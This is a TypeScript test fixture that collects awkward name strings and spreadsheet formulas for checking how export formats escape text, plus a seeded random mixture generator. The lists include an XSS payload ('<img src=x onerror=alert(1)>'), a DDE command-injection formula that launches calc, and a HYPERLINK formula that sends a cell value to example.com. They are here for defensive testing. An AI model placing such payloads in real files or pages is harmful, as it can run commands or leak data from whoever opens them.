/** Texts that somebody may name a picture or a class, and that formats trip over. */
import { randomSource } from '../helpers/random';

export const HOSTILE = [
  'plain',
  'größe, 写真 📷',
  'a,b',
  'say "cheese"',
  '"',
  '""',
  'one\ntwo',
  'one\r\ntwo\rthree',
  '<img src=x onerror=alert(1)>',
  'a | b',
  'a \\| b',
  'trailing backslash \\',
  '*bold* _it_ `code` [link](x) ~~gone~~ &lt;',
  ' spaces ',
  'NULL',
  '1.5',
  "'quoted",
];

/** What a spreadsheet would run. */
export const FORMULAS = [
  '=1+1',
  "=cmd|'/c calc'!A1",
  '+1',
  '-1',
  '@SUM(A1)',
  '\t=1',
  '\r=1',
  '\n=1',
  '=HYPERLINK("http://example.com/?" & A1, "a,b")',
  '＝1+1',
];

const PIECES = [
  'a',
  'B',
  '7',
  ' ',
  ',',
  '"',
  '\n',
  '\r',
  '\t',
  '|',
  '\\',
  '=',
  '-',
  '.',
  '/',
  '📷',
];

/** `count` texts, the same in every run, put together from characters that formats trip over. */
export function mixtures(count: number, longest = 12): string[] {
  const random = randomSource(7);
  const below = (n: number) => Math.floor(random() * n);
  return Array.from({ length: count }, () =>
    Array.from({ length: below(longest + 1) }, () => PIECES[below(PIECES.length)]).join(''),
  );
}
